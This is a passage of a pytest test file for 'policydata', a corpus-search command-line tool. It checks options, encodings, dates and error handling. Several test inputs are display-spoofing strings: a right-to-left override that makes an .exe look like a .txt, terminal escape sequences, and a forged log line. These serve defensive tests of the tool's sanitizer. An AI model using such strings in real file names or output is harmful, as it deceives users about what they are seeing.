    table = run("articles", "--corpus", str(corpus), cache=cache).stdout
    assert "txt.[U+202E]exe[U+200B]" in table and "\u202e" not in table


def test_every_invisible_character_of_unicode_is_revealed() -> None:
    """INVISIBLE is written out: it must hold every format character (Cf) and separator of
    the Unicode data of the Python running it, and the invisible letters and marks."""
    import sys
    import unicodedata

    from policydata.columns import INVISIBLE, SHOWN_FORMAT, reveal

    wanted = {chr(c) for c in range(sys.maxunicode + 1)
              if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")} - SHOWN_FORMAT
    wanted |= {"\u115f", "\u1160", "\u3164", "\uffa0", "\u034f", "\ufe0f", "\U000e0100"}
    missed = sorted(f"U+{ord(c):04X}" for c in wanted if not INVISIBLE.fullmatch(c))
    assert not missed, f"not revealed (Unicode {unicodedata.unidata_version}): {missed}"
    # and nothing that shows: letters, marks that combine visibly, spaces, CJK, emoji
    shown = "digital economy é e\u0301 数字经济 \u00a0\u3000 🙂 \u05d0\u0627 \u0600\u06dd"
    assert reveal(shown) == shown


@pytest.mark.parametrize(("text", "shown"), [
    ("plain", "plain"),
    ("a\x1b[2Jb", "a\\x1b[2Jb"),
    ("line\nforged", "line\\nforged"),
    ("\x9b31m", "\\x9b31m"),
    ("evil\u202etxt.exe", "evil[U+202E]txt.exe"),
    ("zero\u200bwidth\u200f", "zero[U+200B]width[U+200F]"),
    ("\u2066isolate\u2069", "[U+2066]isolate[U+2069]"),
    ("\ufeffbom", "[U+FEFF]bom"),
    ("arabic\u061cmark", "arabic[U+061C]mark"),
    ("数字经济 é", "数字经济 é"),
])
def test_terminal_text(text: str, shown: str) -> None:
    from policydata.columns import printable

    assert printable(text) == shown


def test_damaged_texts_found_while_reading_are_rebuilt(tmp_path: Path) -> None:
    # Texts are checked when first read (keyword in context), not at every start: damage
    # found then rebuilds the index and the command still answers.
    corpus, cache = tmp_path / "c", tmp_path / "cache"
    write_article(corpus, "a.txt", "2023-01-01", "T", "The digital economy grows.")
    run("info", "--corpus", str(corpus), cache=cache)
    texts = next(cache.glob("*/segments/*/texts.parquet"))
    data = bytearray(texts.read_bytes())
    data[len(data) // 2] ^= 0x01
    texts.write_bytes(bytes(data))
    result = run("kwic", "digital economy", "--corpus", str(corpus), "--format", "csv",
                 cache=cache)
    assert "rebuilding the index" in result.stderr and "Traceback" not in result.stderr
    assert "digital economy" in result.stdout.splitlines()[1]


def test_a_start_inside_a_month_says_which_coarse_dates_it_leaves_out(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.csv").write_text("date,title,text\n2023-09,Month,digital economy\n"
                                  "2023-09-15,Day,digital economy\n")
    result = run("trend", "digital economy", "--corpus", str(corpus), "--from", "2023-09-10",
                 "--format", "csv", cache=tmp_path / "cache")
    assert [r["count"] for r in rows(result.stdout)] == ["1"]
    assert ("1 document is dated only 2023-09 or 2023 and left out: a date without a day "
            "stands on the first of its month or year, before --from 2023-09-10"
            ) in result.stderr


def test_a_corpus_that_is_a_device_leaves_no_cache_folder(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    result = run("info", "--corpus", "/dev/null", cache=cache, check=False)
    assert result.returncode == 2
    assert "is not a folder or a file (a device, pipe or socket)" in result.stderr
    assert not cache.exists() or not any(cache.iterdir())


def test_extra_stopwords_add_to_the_list_as_the_dashboard_does(cache: Path,
                                                                 tmp_path: Path) -> None:
    # The Word clouds page adds its extra stopwords to the default list: --extra-stopwords
    # gives the same table on the command line (--stopwords replaces the list).
    extra = tmp_path / "extra.txt"
    extra.write_text("# mine\nChina\neconomy\n", encoding="utf-8")
    index = open_index(SEEDS, cache_dir=cache)
    want = an.top_terms(index, n=20, stopwords=sorted(an.default_stopwords()
                                                      | {"china", "economy"}))
    got = rows(run("top", "--extra-stopwords", str(extra), "--n", "20", "--corpus", str(SEEDS),
                   "--format", "csv", cache=cache).stdout)
    assert [r["term"] for r in got] == want["term"].tolist()
    assert [int(r["count"]) for r in got] == want["count"].tolist()
    plain = rows(run("top", "--n", "20", "--corpus", str(SEEDS), "--format", "csv",
                     cache=cache).stdout)
    assert "china" in [r["term"] for r in plain] and "china" not in [r["term"] for r in got]
    # "-word" keeps a word of the list, as on the page: the seed says "this" 4 times (and a
    # fifth in its "Share this:" footer, which is not counted)
    extra.write_text("-this\neconomy\n", encoding="utf-8")
    got = rows(run("top", "--extra-stopwords", str(extra), "--n", "500", "--corpus",
                   str(SEEDS), "--format", "csv", cache=cache).stdout)
    counts = {r["term"]: int(r["count"]) for r in got}
    assert counts.get("this") == 4 and "economy" not in counts and "the" not in counts


def test_terms_and_values_may_start_with_a_dash_and_terms_follow_options(corpus: Path,
                                                                         cache: Path) -> None:
    # argparse takes "-x" for an option: "expected one argument" for `--sort -date`, "the
    # following arguments are required: TERM" for `trend -economy`; and terms after an option
    # were "unrecognized arguments".
    def out(*args: str) -> list[dict[str, str]]:
        return rows(run(*args, "--corpus", str(corpus), "--format", "csv", cache=cache).stdout)

    plain = out("trend", "digital economy", "economy", "--freq", "year")
    assert out("trend", "digital economy", "--freq", "year", "economy") == plain
    dashed = out("trend", "-economy", "--freq", "year")  # ("-" is no token: economy)
    assert [r["count"] for r in dashed] == [r["count"] for r in plain if r["term"] == "economy"]
    assert {r["term"] for r in dashed} == {"'-economy"}  # (as typed; a spreadsheet's ' first)
    assert out("articles", "--query", "-economy") == out("articles", "--query", "economy")
    said = run("articles", "--query", "-economy", "--corpus", str(corpus), cache=cache).stderr
    assert "--query: '-economy' is searched as the phrase 'economy'" in said
    newest = out("articles", "--sor", "-date")  # (an abbreviation, as argparse allows)
    assert newest == out("articles", "--sort=-date") == out("articles")
    result = run("articles", "--sort", "-hits", "--corpus", str(corpus), cache=cache,
                 check=False)
    assert result.returncode == 2 and "invalid choice: '-hits'" in result.stderr
    result = run("articles", "--query", "--from", "2023-01-01", "--corpus", str(corpus),
                 cache=cache, check=False)
    assert result.returncode == 2 and "--query: expected one argument" in result.stderr
    # a term given twice is listed once; a theme given twice (in any case) counts once
    assert out("trend", "economy", "economy") == out("trend", "economy")
    theme = "Digital economy"
    once = out("articles", "--theme", theme)
    assert out("articles", "--theme", theme, "--theme", theme.upper()) == once
    assert sum(int(r["hits"]) for r in once) == sum(
        int(r["count"]) for r in out("themes", "--theme", theme) if r["theme"] == theme)


def test_output_that_cannot_be_written_is_one_line_and_status_1(tmp_path: Path,
                                                                cache: Path) -> None:
    write_article(tmp_path / "c", "a.txt", "2023-01-01", "数字经济", "数字经济 digital economy.")
    env = dict(os.environ, PYTHONIOENCODING="latin-1")

    def policydata(*args: str, **kw: Any) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([SCRIPT, *args, "--corpus", str(tmp_path / "c"), "--cache-dir",
                               str(cache)], env=env, timeout=120, **kw)

    # a table in an encoding without the corpus's characters: one line, and nothing written
    result = policydata("kwic", "数字", capture_output=True)
    said = result.stderr.decode("latin-1").strip()
    assert result.returncode == 1 and len(said.splitlines()) == 1 and result.stdout == b""
    assert "encoding (latin-1) cannot write '\\u6570" in said and "PYTHONIOENCODING" in said
    # CSV and JSON are data files: UTF-8 whatever the locale
    for fmt in ("csv", "json"):
        result = policydata("kwic", "数字", "--format", fmt, capture_output=True)
        assert result.returncode == 0, result.stderr
        assert "数字经济" in result.stdout.decode("utf-8")
    if Path("/dev/full").exists():
        for command in (["trend", "economy"], ["build"], ["build", "--format", "json"],
                        ["info", "--format", "json"]):
            with open("/dev/full", "w") as full:
                result = policydata(*command, stdout=full, stderr=subprocess.PIPE)
            assert result.returncode == 1, command
            assert result.stderr.decode().strip() == (
                "policydata: error: the output cannot be written: No space left on device")
        # help and the version too (argparse dropped a failed write and exited 0)
        for command in (["--help"], ["--version"], ["top", "--help"]):
            with open("/dev/full", "w") as full:
                result = subprocess.run([SCRIPT, *command], stdout=full, stderr=subprocess.PIPE,
                                        timeout=120)
            assert result.returncode == 1, command
            assert result.stderr.decode().strip() == (
                "policydata: error: the output cannot be written: No space left on device")
    # started with its output closed
    for command in (f"info --corpus {SEEDS} --cache-dir {cache}", "--help", "trend --help"):
        result = subprocess.run(f"{SCRIPT} {command} >&-", shell=True, capture_output=True,
                                text=True, timeout=120)
        assert result.returncode == 1, command
        assert result.stderr.strip() == ("policydata: error: the output is closed: nothing "
                                         "can be written"), command
    # help cut short by a pipe is no error
    result = subprocess.run(f"{SCRIPT} --help | head -1", shell=True, capture_output=True,
                            text=True, timeout=120)
    assert result.stdout.startswith("usage: policydata") and result.stderr == ""


@pytest.mark.skipif(sys.platform != "linux", reason="a file name that is not UTF-8 (Linux)")
@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_json_output_names_a_cache_folder_whose_name_is_not_utf8(tmp_path: Path,
                                                                 locale: str) -> None:
    # CSV and JSON are written in UTF-8, keeping the output's errors mode: a path's odd
    # byte is written as the JSON escape \udcff (build) or its byte (info), never an error.
    cache = os.fsencode(tmp_path) + b"/x\xff"
    env = dict(os.environ, LC_ALL=locale)
    for command in (["build"], ["info"]):
        result = subprocess.run([os.fsencode(SCRIPT), *[c.encode() for c in command],
                                 b"--corpus", os.fsencode(SEEDS), b"--cache-dir", cache,
                                 b"--format", b"json"], capture_output=True, env=env,
                                timeout=120)
        assert result.returncode == 0, result.stderr
        assert json.loads(result.stdout.decode("utf-8", "surrogateescape"))


def test_an_empty_or_repeated_query_is_refused_not_dropped(corpus: Path, cache: Path) -> None:
    # A script's --query "$Q" with Q unset listed the whole corpus without a word.
    result = run("articles", "--query", "", "--corpus", str(corpus), cache=cache, check=False)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.strip() == ("policydata: error: --query is empty: give a word or "
                                     "phrase, or leave --query out")
    result = run("trend", "economy", "--query", "digital", "--query", "real", "--corpus",
                 str(corpus), cache=cache, check=False)
    assert result.returncode == 2 and result.stdout == ""
    assert "--query is given twice ('digital' and 'real')" in result.stderr


def test_paths_dates_and_cut_output_are_what_a_user_means(tmp_path: Path, corpus: Path,
                                                          cache: Path) -> None:
    # ~ is the home folder, as in $POLICYDATA_CORPUS; a file is no cache folder; a date may
    # come with spaces around it
    home = tmp_path / "home"
    shutil.copytree(corpus, home / "c")
    env = dict(os.environ, HOME=str(home))
    result = subprocess.run([SCRIPT, "info", "--corpus", "~/c", "--cache-dir", str(cache),
                             "--format", "json"], capture_output=True, text=True, env=env,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["documents"] == 24
    afile = tmp_path / "afile"
    afile.write_text("")
    result = subprocess.run([SCRIPT, "info", "--corpus", str(corpus), "--cache-dir",
                             str(afile)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and "'" + str(afile) + "' is a file, not a folder" in (
        result.stderr)
    spaced = rows(run("articles", "--from", " 2023-01-01 ", "--corpus", str(corpus),
                      "--format", "csv", cache=cache).stdout)
    assert spaced and min(r["date"] for r in spaced) >= "2023-01-01"
    # A table keeps ids whole and a left context's words next to the match; says what it
    # cut. kwic says when its default limit leaves lines out.
    long_id = "x" * 80
    write_article(tmp_path / "long", f"{long_id}.txt", "2023-01-01", "T",
                  " ".join(f"w{i}" for i in range(40)) + " target end.")
    result = run("kwic", "target", "--window", "30", "--corpus", str(tmp_path / "long"),
                 cache=cache)
    line = result.stdout.splitlines()[1]
    assert long_id in line and "w39 target" in line and "…" in line
    assert "is cut in a table (ids never are)" in result.stderr
    result = run("kwic", "economy", "--limit", "2", "--corpus", str(corpus), cache=cache)
    total = sum(int(r["hits"]) for r in rows(run(
        "articles", "--query", "economy", "--corpus", str(corpus), "--format", "csv",
        cache=cache).stdout))
    assert f"2 of {total} lines" in result.stderr and "--limit all" in result.stderr


def test_dates_known_only_to_a_month_or_year_are_written_so(tmp_path: Path, cache: Path) -> None:
    folder = tmp_path / "c"
    write_article(folder, "a.txt", "2021", "Yearly", "Trade rose.")
    write_article(folder, "b.txt", "2022-05", "Monthly", "Trade fell.")
    write_article(folder, "c.txt", "2022-05-01", "Daily", "Trade held.")
    common = ["--corpus", str(folder), "--format", "csv", "--sort", "date"]
    listed = rows(run("articles", *common, cache=cache).stdout)
    assert [(r["title"], r["date"]) for r in listed] == [
        ("Yearly", "2021"), ("Monthly", "2022-05"), ("Daily", "2022-05-01")]
    lines = rows(run("kwic", "trade", *common, cache=cache).stdout)
    assert [r["date"] for r in lines] == ["2021", "2022-05", "2022-05-01"]


@pytest.mark.parametrize("command", ["info", "trend", "themes", "top", "kwic", "articles",
                                     "build", "serve"])
def test_each_commands_help_says_what_it_prints_with_examples(command: str) -> None:
    result = subprocess.run([SCRIPT, command, "--help"], capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 0 and result.stderr == ""
    said = result.stdout
    if command in COLUMNS:
        assert f"CSV columns: {','.join(COLUMNS[command])} " in said
    assert f"\n  policydata {command} " in said  # (an example, as typed)
    assert "exit status: 0 done; 2 a bad argument" in said
